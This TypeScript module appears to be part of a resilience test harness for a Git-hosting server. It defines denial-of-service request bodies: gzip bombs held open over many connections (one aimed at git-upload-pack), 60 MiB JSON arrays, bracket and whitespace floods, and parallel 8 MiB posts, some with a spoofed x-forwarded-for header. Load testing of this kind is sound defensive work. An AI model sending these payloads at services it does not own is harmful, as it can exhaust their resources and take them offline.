import { gzipSync } from "node:zlib";
import type { Attack, Target } from "../attack.ts";

const JSON_TYPE = { "content-type": "application/json" };

/** Sends all but the end of a body over so many connections and keeps them open for so long. */
async function hold(target: Target, count: number, path: string, headers: Record<string, string>, body: Uint8Array) {
  const stop = new AbortController();
  const requests = Array.from({ length: count }, () =>
    fetch(target.url + path, {
      method: "POST",
      headers: { "x-forwarded-for": "203.0.113.8", ...headers },
      signal: stop.signal,
      body: new ReadableStream({ start: (controller) => controller.enqueue(body) }),
    })
      .then((answer) => answer.arrayBuffer())
      .catch(() => {}),
  );
  await Bun.sleep(1500);
  stop.abort();
  await Promise.all(requests);
}

/** Bodies of which little is sent, and much becomes. */
export const bodyAttacks: readonly Attack[] = [
  {
    name: "20 bodies of 32 KB gzip that unfold to 32 MiB, held open, to file-contents",
    run: async (target) => {
      const bomb = gzipSync(Buffer.alloc(32 << 20, 0x20));
      const headers = { ...JSON_TYPE, "content-encoding": "gzip" };
      await hold(target, 20, `/api/v1/repos${target.stranger.repo}/file-contents`, headers, bomb);
    },
  },
  {
    name: "20 bodies of 32 KB gzip that unfold to 32 MiB, held open, to git-upload-pack",
    run: async (target) => {
      const bomb = gzipSync(Buffer.alloc(32 << 20, "0032want 0123456789012345678901234567890123456789\n"));
      const headers = { "content-type": "application/x-git-upload-pack-request", "content-encoding": "gzip" };
      await hold(target, 20, `${target.stranger.repo}.git/git-upload-pack`, headers, bomb);
    },
  },
  {
    name: "a JSON list of 60 MiB",
    run: async ({ ask, stranger, scale }) => {
      const body = `[${"1,".repeat(30 << 20)}1]`;
      const path = `/api/v1/repos${stranger.repo}/contents/large.txt`;
      for (let count = 0; count < scale; count++) await ask(path, { body, headers: JSON_TYPE, token: stranger.token });
    },
  },
  {
    name: "60 MiB of brackets, and 60 MiB of blanks",
    run: async ({ ask, stranger }) => {
      const path = `/api/v1/repos${stranger.repo}/contents/large.txt`;
      for (const body of ["[".repeat(60 << 20), `{${" ".repeat(60 << 20)}}`])
        await ask(path, { body, headers: JSON_TYPE, token: stranger.token });
    },
  },
  {
    name: "60 MiB of an escaped text",
    run: async ({ ask, stranger }) => {
      const body = `{"content":"${"\\n".repeat(30 << 20)}"}`;
      await ask(`/api/v1/repos${stranger.repo}/contents/large.txt`, {
        body,
        headers: JSON_TYPE,
        token: stranger.token,
      });
    },
  },
  {
    name: "40 bodies of 8 MiB to a page that reads none",
    run: async ({ ask }) => {
      const body = Buffer.alloc(8 << 20);
      const send = () => ask("/no/such/page/at/all", { method: "POST", body }).catch(() => undefined);
      await Promise.all(Array.from({ length: 40 }, send));
    },
  },
];
